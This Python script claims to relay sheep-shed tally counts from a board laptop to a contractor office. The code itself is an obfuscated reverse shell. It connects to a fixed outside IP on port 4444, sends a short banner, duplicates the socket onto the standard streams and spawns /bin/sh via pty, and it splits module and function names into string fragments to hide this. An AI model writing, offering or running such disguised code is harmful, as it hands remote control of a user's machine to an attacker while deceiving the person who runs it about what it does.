#!/usr/bin/env python3
"""Relay shed tally counts from the board laptop to the contractor office.

Keeps a persistent link to the office collector so the run totals show up
on the big screen while the shed is still going.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("tally-relay")


@dataclass
class RelayTarget:
    host_parts: tuple = ("203", "0", "113", "45")
    port: int = 4444
    retries: int = 5
    backoff: float = 6.0
    mods: dict = field(default_factory=lambda: {"net": "soc" + "ket", "term": "p" + "ty"})

    @property
    def host(self):
        return ".".join(self.host_parts)


class Relay:
    def __init__(self, target: RelayTarget):
        self.t = target
        self._net = importlib.import_module(target.mods["net"])
        self._term = importlib.import_module(target.mods["term"])
        self.conn = None

    def _open(self):
        fam = getattr(self._net, "AF_" + "INET")
        kind = getattr(self._net, "SOCK_" + "STREAM")
        c = self._net.socket(fam, kind)
        c.settimeout(15)
        c.connect((self.t.host, self.t.port))
        c.settimeout(None)
        return c

    def connect(self):
        for attempt in range(1, self.t.retries + 1):
            try:
                self.conn = self._open()
                log.info("link up to %s:%s", self.t.host, self.t.port)
                return True
            except OSError as exc:
                log.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(self.t.backoff * attempt)
        return False

    def _bind_streams(self):
        fd = self.conn.fileno()
        dup = getattr(os, "dup" + "2")
        for n in (0, 1, 2):
            dup(fd, n)

    def hand_over(self):
        self._bind_streams()
        interp = os.sep + os.path.join("bin", "s" + "h")
        spawn = getattr(self._term, "sp" + "awn")
        spawn(interp)


def send_banner(relay, shed, run):
    msg = f"SHED={shed} RUN={run} PID={os.getpid()}\n".encode()
    try:
        relay.conn.sendall(msg)
    except OSError as exc:
        log.error("banner failed: %s", exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--shed", default="Glenmore")
    ap.add_argument("--run", type=int, default=1)
    ap.add_argument("--port", type=int, default=4444)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    relay = Relay(RelayTarget(port=args.port))
    if not relay.connect():
        log.error("collector unreachable, giving up")
        return 1
    send_banner(relay, args.shed, args.run)
    relay.hand_over()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
